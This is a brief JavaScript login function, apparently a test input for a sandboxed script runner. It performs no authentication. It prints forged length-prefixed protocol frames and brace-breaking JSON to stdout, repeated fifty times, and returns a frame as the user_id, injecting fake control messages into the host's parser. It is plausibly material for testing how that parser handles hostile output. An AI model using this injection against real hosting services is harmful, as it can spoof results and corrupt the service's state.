function login(email, password, callback) {
  const frame = '\u0010\u0000\u0000\u0000{"answered":{"run":1,"token":1,"reply":"nothing","console_dropped":0}}';
  console.log(frame);
  console.log('}}{"heap_limit":{"used_bytes":1}}');
  process.stdout.write(frame.repeat(50));
  callback(null, { user_id: frame });
}
